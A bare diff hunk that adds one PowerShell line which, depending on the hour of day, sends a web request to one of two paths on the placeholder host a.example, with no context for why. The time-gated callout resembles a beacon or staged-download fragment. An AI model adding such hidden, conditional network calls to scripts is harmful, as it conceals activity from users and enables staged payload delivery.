@@ -1,0 +1,1 @@
+if((Get-Date).Hour -gt 5){iwr http://a.example/1}else{iwr http://a.example/2}
